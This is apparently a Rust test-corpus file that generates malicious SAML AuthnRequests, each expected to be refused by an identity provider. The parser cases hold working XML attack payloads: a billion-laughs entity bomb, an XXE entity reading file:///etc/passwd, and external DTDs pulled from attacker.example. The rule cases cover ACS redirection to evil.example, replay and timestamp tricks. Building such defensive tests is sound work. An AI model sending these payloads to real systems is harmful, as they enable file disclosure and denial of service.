//! Cases for both bindings: the XML parser's refusals (DOCTYPE, entities, caps) and validly signed
//! requests that break one request rule (ACS, Destination, Issuer, IssueInstant, replay, ID).

use super::*;

const BILLION_LAUGHS: &str = concat!(
    r#"<?xml version="1.0"?><!DOCTYPE samlp:AuthnRequest [<!ENTITY lol "lol">"#,
    r#"<!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">"#,
    r#"<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">"#,
    r#"<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">"#,
    r#"<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">"#,
    r#"<!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">"#,
    r#"<!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">"#,
    r#"<!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">"#,
    r#"<!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">"#,
    r#"<!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">]>"#,
);

/// A request whose Issuer (or another place) uses an entity from a DOCTYPE.
fn with_doctype(doctype: &str, id: &str, issuer_text: &str) -> String {
    let mut r = Req::new(id);
    r.issuer = Some(issuer_text.to_string());
    format!("{doctype}{}", r.plain())
}

pub(super) fn parser_cases(c: &mut Corpus, dir: &str, encode: &dyn Fn(&str) -> Vec<u8>, ext: &str) {
    let p = |name: &str| format!("{dir}/{name}.{ext}");
    let id = |name: &str| format!("_atk-{dir}-{name}");
    c.add(
        &p("doctype-internal-entity"),
        "DOCTYPE with an internal entity used in the Issuer",
        "xml.no_doctype",
        "html 400 xml_refused",
        encode(&with_doctype(
            "<!DOCTYPE samlp:AuthnRequest [<!ENTITY sp \"https://sp.example/corpus\">]>",
            &id("doctype-internal-entity"),
            "&sp;",
        )),
    );
    c.add(
        &p("xxe-external-file"),
        "XXE: external entity file:///etc/passwd in the Issuer",
        "xml.no_doctype",
        "html 400 xml_refused",
        encode(&with_doctype(
            "<!DOCTYPE samlp:AuthnRequest [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>",
            &id("xxe-external-file"),
            "&xxe;",
        )),
    );
    c.add(
        &p("xxe-external-dtd"),
        "external DTD fetched from an attacker's server",
        "xml.no_doctype",
        "html 400 xml_refused",
        encode(&with_doctype(
            "<!DOCTYPE samlp:AuthnRequest SYSTEM \"http://attacker.example/evil.dtd\">",
            &id("xxe-external-dtd"),
            "https://sp.example/corpus",
        )),
    );
    c.add(
        &p("xxe-parameter-entity"),
        "parameter entity pulling an external DTD (out-of-band XXE)",
        "xml.no_doctype",
        "html 400 xml_refused",
        encode(&with_doctype(
            "<!DOCTYPE samlp:AuthnRequest [<!ENTITY % ext SYSTEM \
             \"http://attacker.example/oob.dtd\"> %ext;]>",
            &id("xxe-parameter-entity"),
            "https://sp.example/corpus",
        )),
    );
    c.add(
        &p("billion-laughs"),
        "billion laughs: 10^9 expansions of nested entities",
        "xml.no_doctype",
        "html 400 xml_refused",
        encode(&with_doctype(
            BILLION_LAUGHS,
            &id("billion-laughs"),
            "&lol9;",
        )),
    );
    let mut r = Req::new(&id("undeclared-entity"));
    r.issuer = Some("https://sp.example/corpus&foo;".into());
    c.add(
        &p("undeclared-entity"),
        "reference to an entity that was never declared",
        "xml.predefined_entities_only",
        "html 400 xml_refused",
        encode(&r.plain()),
    );
    let mut r = Req::new(&id("deep-nesting"));
    r.after_sig = format!(
        "<samlp:Extensions>{}x{}</samlp:Extensions>",
        "<x:n xmlns:x=\"urn:example:x\">".repeat(200),
        "</x:n>".repeat(200)
    );
    c.add(
        &p("deep-nesting"),
        "200 nested elements (parser stack exhaustion)",
        "xml.depth_cap",
        "html 400 xml_refused",
        encode(&r.plain()),
    );
    let mut r = Req::new(&id("many-attributes"));
    r.extra_attrs = (0..100).map(|i| format!(" a{i}=\"{i}\"")).collect();
    c.add(
        &p("many-attributes"),
        "100 attributes on the root (attribute hash flooding)",
        "xml.attribute_cap",
        "html 400 xml_refused",
        encode(&r.plain()),
    );
    let mut r = Req::new(&id("many-nodes"));
    r.after_sig = format!(
        "<samlp:Extensions>{}</samlp:Extensions>",
        "<a/>".repeat(10_001)
    );
    c.add(
        &p("many-nodes"),
        "10001 empty elements (node-count blow-up)",
        "xml.node_cap",
        "html 400 xml_refused",
        encode(&r.plain()),
    );
    let mut r = Req::new(&id("not-authn-request"));
    r.root = "LogoutRequest";
    c.add(
        &p("not-authn-request"),
        "a LogoutRequest where an AuthnRequest is expected",
        "request.authn_request_root",
        "html 400 not_authn_request",
        encode(&r.plain()),
    );
    let mut r = Req::new(&id("version-1-1"));
    r.version = "1.1";
    c.add(
        &p("version-1-1"),
        "SAML version 1.1",
        "request.version",
        "html 400 version_not_2_0",
        encode(&r.plain()),
    );
    let mut r = Req::new(&id("no-issuer"));
    r.issuer = None;
    c.add(
        &p("no-issuer"),
        "no Issuer: nobody to check the signature for",
        "sso.issuer_required",
        "html 400 no_issuer",
        encode(&r.plain()),
    );
}

/// Requests whose signature is valid (the SP's own key) but break another rule: the rule is the
/// only thing that stops them.
pub(super) fn rule_cases(
    c: &mut Corpus,
    k: &Keys,
    dir: &str,
    encode: &dyn Fn(&Req) -> Vec<u8>,
    ext: &str,
) {
    let p = |name: &str| format!("{dir}/{name}.{ext}");
    let id = |name: &str| format!("_atk-{dir}-{name}");
    let _ = k;
    let mut r = Req::new(&id("acs-url-not-in-metadata"));
    r.acs = Acs::Url("https://evil.example/acs".into(), POST_BINDING);
    c.add(
        &p("acs-url-not-in-metadata"),
        "signed request asking for the Response at an ACS URL not in the metadata",
        "sso.acs_from_metadata",
        "html 400 acs_not_in_metadata",
        encode(&r),
    );
    let mut r = Req::new(&id("acs-url-path-trick"));
    r.acs = Acs::Url(format!("{}/../../evil", acs_url(APP)), POST_BINDING);
    c.add(
        &p("acs-url-path-trick"),
        "ACS URL that extends a listed one with ../ (prefix matching)",
        "sso.acs_from_metadata",
        "html 400 acs_not_in_metadata",
        encode(&r),
    );
    let mut r = Req::new(&id("acs-index-not-in-metadata"));
    r.acs = Acs::Index("7");
    c.add(
        &p("acs-index-not-in-metadata"),
        "AssertionConsumerServiceIndex 7 (the metadata lists 0 and 1)",
        "sso.acs_from_metadata",
        "html 400 acs_not_in_metadata",
        encode(&r),
    );
    let mut r = Req::new(&id("acs-binding-artifact"));
    r.acs = Acs::Url(acs_url(APP), ARTIFACT_BINDING);
    c.add(
        &p("acs-binding-artifact"),
        "listed ACS URL with the HTTP-Artifact binding (we only POST)",
        "sso.acs_from_metadata",
        "html 400 acs_not_in_metadata",
        encode(&r),
    );
    let mut r = Req::new(&id("acs-index-and-url"));
    r.acs = Acs::Both;
    c.add(
        &p("acs-index-and-url"),
        "both AssertionConsumerServiceIndex and URL (SAML Core 3.4.1 forbids it)",
        "request.acs_conflict",
        "html 400 acs_index_and_url",
        encode(&r),
    );
    let mut r = Req::new(&id("destination-other-idp"));
    r.destination = Some("https://other-idp.example/saml/sso".into());
    c.add(
        &p("destination-other-idp"),
        "signed request meant for another IdP (forwarded to us)",
        "request.destination",
        "html 400 destination_mismatch",
        encode(&r),
    );
    let mut r = Req::new(&id("destination-http-scheme"));
    r.destination = Some(SSO.replace("https://", "http://"));
    c.add(
        &p("destination-http-scheme"),
        "Destination is our SSO URL over plain http",
        "request.destination",
        "html 400 destination_mismatch",
        encode(&r),
    );
    let mut r = Req::new(&id("destination-missing"));
    r.destination = None;
    c.add(
        &p("destination-missing"),
        "signed request without Destination (could be replayed at any IdP)",
        "request.destination_required_when_signed",
        "html 400 destination_missing",
        encode(&r),
    );
    let mut r = Req::new(&id("unknown-issuer"));
    r.issuer = Some("https://stranger.example/sp".into());
    c.add(
        &p("unknown-issuer"),
        "Issuer that is not a registered SP (signed with a registered SP's key)",
        "sso.known_issuer",
        "html 403 unknown_issuer",
        encode(&r),
    );
    let mut r = Req::new(&id("issue-instant-stale"));
    r.issue_instant = "2026-11-20T07:56:59Z".into();
    c.add(
        &p("issue-instant-stale"),
        "IssueInstant 3 min 1 s before now (stale or captured request)",
        "request.issue_instant_skew",
        "html 400 issue_instant_skew",
        encode(&r),
    );
    let mut r = Req::new(&id("issue-instant-future"));
    r.issue_instant = "2026-11-20T08:03:01Z".into();
    c.add(
        &p("issue-instant-future"),
        "IssueInstant 3 min 1 s after now (pre-made request)",
        "request.issue_instant_skew",
        "html 400 issue_instant_skew",
        encode(&r),
    );
    let mut r = Req::new(&id("issue-instant-invalid"));
    r.issue_instant = "yesterday".into();
    c.add(
        &p("issue-instant-invalid"),
        "IssueInstant that is not an xs:dateTime",
        "request.issue_instant_skew",
        "html 400 issue_instant_invalid",
        encode(&r),
    );
    let r = Req::new(&id("replayed"));
    c.add(
        &p("replayed"),
        "the same signed request sent twice (captured and replayed)",
        "sso.replay_cache",
        "html 400 replayed_request",
        encode(&r),
    )
    .twice = true;
    for (name, bad, what) in [
        (
            "id-starts-with-digit",
            format!("1atk-{dir}"),
            "request ID that is not an xs:ID (starts with a digit)",
        ),
        (
            "id-with-colon",
            format!("_atk-{dir}:colon"),
            "request ID that is not an xs:ID (colon)",
        ),
        (
            "id-with-space",
            format!("_atk-{dir} space"),
            "request ID that is not an xs:ID (space)",
        ),
        ("id-empty", String::new(), "empty request ID"),
        (
            "id-257-chars",
            format!("_atk-{dir}-{}", "i".repeat(251 - dir.len())),
            "request ID of 257 characters",
        ),
    ] {
        let mut r = Req::new("_placeholder");
        r.id = Some(bad);
        c.add(
            &p(name),
            what,
            "request.id_rules",
            "html 400 id_invalid",
            encode(&r),
        );
    }
    if dir == "post" {
        return; // POST: a signed root without an ID is `post/root-without-id.xml`.
    }
    let mut r = Req::new("_placeholder");
    r.id = None;
    c.add(
        &p("id-missing"),
        "request without ID (nothing to bind InResponseTo to)",
        "request.id_rules",
        "html 400 id_invalid",
        encode(&r),
    );
}
